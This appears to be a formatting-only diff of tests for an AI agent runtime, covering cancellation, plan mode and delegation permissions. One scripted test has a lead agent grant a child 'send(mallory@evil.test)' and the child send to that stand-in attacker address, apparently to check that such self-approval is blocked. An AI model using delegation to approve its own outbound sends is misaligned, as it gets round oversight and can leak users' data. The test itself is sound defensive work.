@@ -103,7 +103,14 @@ test("cancelling a session stops a fan-out, also what had not begun", async () =
   t.runtime.events((event) => {
     if (event.type === "run.started") t.runtime.cancel(event.sessionId);
   });
-  const results = await t.runtime.fanOut([["worker", "1"], ["worker", "2"], ["worker", "3"]], { maxConcurrent: 1 });
+  const results = await t.runtime.fanOut(
+    [
+      ["worker", "1"],
+      ["worker", "2"],
+      ["worker", "3"],
+    ],
+    { maxConcurrent: 1 },
+  );
   expect(results.map((result) => result.success)).toEqual([false, false, false]);
   expect(begun.length).toBeLessThanOrEqual(1);
 });
@@ -164,7 +171,11 @@ test("a model cannot consent to its own outbound calls by narrowing a delegation
   });
   await using t = testRuntime(
     {
-      lead: [callTool("page", {}), callDelegate("child", "x", { tools: ["send(mallory@evil.test)"] }), say("ok")],
+      lead: [
+        callTool("page", {}),
+        callDelegate("child", "x", { tools: ["send(mallory@evil.test)"] }),
+        say("ok"),
+      ],
       child: [callTool("send", { to: "mallory@evil.test" }), say("ok")],
     },
     { tools: [page, send] },
@@ -193,7 +204,10 @@ test("polling for results is no circle", async () => {
     { agents: { lead: { subagents: { allow: ["*"], maxConcurrent: 10 } } } },
   );
   gates[0]?.resolve();
-  expect(await t.runtime.run({ agent: "lead", task: "go" })).toMatchObject({ summary: "all", partial: false });
+  expect(await t.runtime.run({ agent: "lead", task: "go" })).toMatchObject({
+    summary: "all",
+    partial: false,
+  });
 });
 
 test("plan mode makes only calls that read", async () => {
@@ -205,7 +219,10 @@ test("plan mode makes only calls that read", async () => {
     risk: "high",
     execute: async () => `${++deployed}`,
   });
-  await using t = testRuntime({ solo: [callTool("deploy", {}), say("ok")] }, { tools: [deploy], permissionMode: "plan" });
+  await using t = testRuntime(
+    { solo: [callTool("deploy", {}), say("ok")] },
+    { tools: [deploy], permissionMode: "plan" },
+  );
   await t.runtime.run({ agent: "solo", task: "go" });
   expect(deployed).toBe(0);
 });
@@ -251,13 +268,16 @@ test("two runs' long results do not overwrite each other", async () => {
         ]),
         say("ok"),
       ],
-      worker: (request) => (request.turn === 0 ? callTool("long", { text: request.task }) : say(request.last)),
+      worker: (request) =>
+        request.turn === 0 ? callTool("long", { text: request.task }) : say(request.last),
     },
     { tools: [long] },
   );
   await t.runtime.run({ agent: "lead", task: "go" });
   const paths = t.events.flatMap((event) =>
-    event.type === "turn.ended" ? [...event.text.matchAll(/the whole is in (\S+artefacts\S+)/g)].map((match) => match[1]) : [],
+    event.type === "turn.ended"
+      ? [...event.text.matchAll(/the whole is in (\S+artefacts\S+)/g)].map((match) => match[1])
+      : [],
   );
   expect(new Set(paths).size).toBe(2);
 });
